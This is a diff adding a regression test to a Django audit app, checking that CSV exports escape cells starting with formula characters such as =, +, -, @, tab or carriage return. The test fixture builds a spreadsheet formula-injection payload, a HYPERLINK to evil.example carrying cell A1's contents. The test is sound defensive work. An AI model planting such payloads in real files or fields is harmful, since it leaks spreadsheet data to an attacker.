@@ -10,6 +10,7 @@ from django.db import connections
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
+from apps.audit.models import AuditEvent
 from tests.audit.conftest import index_everything
 from tests.support.approvals import settle
 from tests.support.factories import client_for, make_user
@@ -212,3 +213,21 @@ def test_a_search_makes_no_query_on_the_metadata_database(team, history, admin_u
 def test_a_new_auditor_needs_the_right(store, team):
     someone = make_user("newcomer")
     assert _get(someone, "/api/v1/audit/search", q="x").status_code == 403
+
+
+FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
+def test_a_csv_cell_never_starts_a_spreadsheet_formula(store, auditor, lead):
+    """Names users choose (a saved query's, shown as the event's object) reach an auditor's
+    spreadsheet: a cell a spreadsheet would run as a formula is written as text. Found by
+    an outside attack: a leading tab or carriage return, which spreadsheets skip before
+    reading a formula (OWASP's list), was written as it was."""
+    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"open")'
+    AuditEvent.objects.create(actor_username="mallory", action="saved_query.create", object_repr=name)
+    index_everything()
+    exported = client_for(auditor).get("/api/v1/audit/events", {"user": "mallory", "format": "csv"})
+    assert exported.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode(), newline="")))
+    assert [row["object_repr"] for row in rows] == [f"'{name}"]
